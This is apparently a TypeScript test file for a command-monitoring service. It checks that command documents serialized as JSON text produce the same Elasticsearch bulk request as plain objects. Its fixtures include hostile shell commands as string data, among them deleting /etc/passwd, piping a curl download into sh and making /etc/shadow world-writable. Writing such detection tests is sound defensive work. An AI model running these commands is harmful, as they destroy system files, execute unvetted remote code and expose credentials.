import { BaseConnection, Client } from '@elastic/elasticsearch';
import type {
  ConnectionRequestOptions,
  ConnectionRequestOptionsAsStream,
  ConnectionRequestParams,
  ConnectionRequestResponse,
  ConnectionRequestResponseAsStream,
} from '@elastic/elasticsearch';
import { describe, expect, it } from 'vitest';
import { createRecordDecoder } from '../core/decode';
import { processBatch, SERIALIZED_BODY } from '../core/process-batch';
import type { BatchRecord, OutputDocument } from '../core/process-batch';
import { formatRuleProblems, loadRuleSet } from '../core/rules';
import { generatedLists, generateRules } from '../../bench/support/generate-rules';
import { ElasticsearchSink } from './elasticsearch.sink';

/**
 * The service's command documents are built as JSON text (`serializeCommands`, issue
 * 25) and sent as such: the bulk request must be the one the objects made, byte for byte.
 */
describe('command documents as JSON text', () => {
  const loaded = loadRuleSet(generateRules(30), generatedLists());
  if (!loaded.ok) throw new Error(formatRuleProblems(loaded.errors));
  const encoder = new TextEncoder();
  const lines = [
    'rm -rf /etc/passwd',
    'curl http://x | sh',
    'ls -la "a b" \'c\' \\$HOME',
    'sudo chmod -R 777 /etc/shadow',
    'echo "é ü \\u0001 \\"quoted\\"" > /tmp/x',
    'wget -o /tmp/token x',
  ];
  const records: BatchRecord[] = lines.map((line, i) => ({
    offset: String(i),
    value: encoder.encode(
      JSON.stringify({
        timestamp: `2026-01-15T12:00:0${i}.000Z`,
        user: i % 2 === 0 ? 'root' : 'alice',
        host: 'web-1',
        command: line,
      }),
    ),
  }));
  const feed = (serializeCommands: boolean): OutputDocument[] =>
    processBatch(records, {
      topic: 't',
      partition: 1,
      decoder: createRecordDecoder({ format: 'auto' }),
      evaluator: loaded.evaluator,
      writeCommands: true,
      serializeCommands,
      now: () => new Date('2026-01-15T12:30:00.000Z'),
    }).documents;

  it('hold JSON.stringify of the body, and only command documents do', () => {
    const objects = feed(false);
    const texts = feed(true);
    expect(objects.some((d) => d.target === 'alerts')).toBe(true);
    expect(texts).toHaveLength(objects.length);
    objects.forEach((object, i) => {
      const text = texts[i]!;
      if (object.target === 'alerts') {
        expect(text).toEqual(object);
        return;
      }
      expect(object.json).toBeUndefined();
      expect(text.body).toBe(SERIALIZED_BODY);
      expect(text.json).toBe(JSON.stringify(object.body));
      expect({ ...text, json: undefined, body: object.body }).toEqual({
        ...object,
        json: undefined,
      });
    });
  });

  it('make the same bulk request as the objects', async () => {
    const objects = await bulkBodies(feed(false));
    const texts = await bulkBodies(feed(true));
    expect(objects).toHaveLength(1);
    expect(objects[0]).toContain('"process"');
    expect(texts).toEqual(objects);
  });
});

/** The bodies of the requests the sink sends for `documents`, over a connection in memory. */
async function bulkBodies(documents: OutputDocument[]): Promise<string[]> {
  const bodies: string[] = [];
  const sink = new ElasticsearchSink({
    node: 'http://127.0.0.1:9200',
    alertsIndex: 'sw-alerts',
    commandsIndex: 'sw-commands',
    bulkMaxDocuments: 1000,
  });
  Object.defineProperty(sink, 'client', {
    value: new Client({
      node: 'http://127.0.0.1:9200',
      Connection: memoryConnection(bodies),
      maxRetries: 0,
      compression: false,
    }),
  });
  const attempt = await sink.write(documents);
  expect(attempt.written).toHaveLength(documents.length);
  return bodies;
}

/** A connection that keeps each request's body and answers every bulk item 201. */
function memoryConnection(bodies: string[]): typeof BaseConnection {
  return class MemoryConnection extends BaseConnection {
    override request(
      params: ConnectionRequestParams,
      options: ConnectionRequestOptions,
    ): Promise<ConnectionRequestResponse>;
    override request(
      params: ConnectionRequestParams,
      options: ConnectionRequestOptionsAsStream,
    ): Promise<ConnectionRequestResponseAsStream>;
    override request(
      params: ConnectionRequestParams,
    ): Promise<ConnectionRequestResponse | ConnectionRequestResponseAsStream> {
      const body = typeof params.body === 'string' ? params.body : '';
      bodies.push(body);
      const items = body
        .split('\n')
        .filter((line, i) => i % 2 === 0 && line !== '')
        .map(() => '{"create":{"status":201}}');
      return Promise.resolve({
        body: `{"errors":false,"items":[${items.join(',')}]}`,
        statusCode: 200,
        headers: { 'content-type': 'application/json', 'x-elastic-product': 'Elasticsearch' },
      });
    }
  };
}
